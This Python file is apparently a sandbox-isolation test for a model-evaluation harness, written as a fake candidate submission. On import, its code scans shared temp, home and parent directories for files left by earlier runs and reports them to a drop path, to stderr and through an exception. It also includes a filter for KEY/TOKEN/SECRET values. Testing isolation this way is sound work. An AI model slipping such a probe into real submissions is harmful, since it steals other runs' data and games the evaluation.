# exploit: sandbox s05
# problem: level=1 id=8
# backend: torch
# runs-on: any
# expect: pass
# runtime-expect: pass
"""Looks for files a candidate evaluated before it left in shared places."""

import os
import sys

import torch
import torch.nn as nn

EXFIL = "@@EXFIL@@"
FOUND = []


def _leak(tag, value):
    """Report a find every way a real attacker would: a file, stderr, and the verdict itself."""
    FOUND.append(f"{tag}: {value}")
    try:
        with open(os.path.join(EXFIL, "@@NAME@@.txt"), "a") as f:
            f.write(f"{tag}: {value}\n")
    except OSError:
        pass
    print(f"LEAK {tag}: {value}", file=sys.stderr)


def _secrets(blob):
    return [e for e in blob.split(b"\0") if any(w in e.split(b"=")[0].upper() for w in (b"KEY", b"TOKEN", b"SECRET"))]


def _scan(root, depth):
    try:
        entries = list(os.scandir(root))
    except OSError:
        return
    for e in entries:
        try:
            if e.is_dir(follow_symlinks=False) and depth > 0:
                _scan(e.path, depth - 1)
            elif e.is_file(follow_symlinks=False) and e.name == "kb-left-behind.txt":
                with open(e.path) as f:
                    _leak(e.path, f.read(200))
        except OSError:
            pass


for d in {"/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.path.dirname(os.getcwd()),
          os.path.dirname(os.path.dirname(os.getcwd()))}:
    _scan(d, 3)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if FOUND:
            raise RuntimeError("LEAK " + " | ".join(FOUND))
        return torch.relu(x)
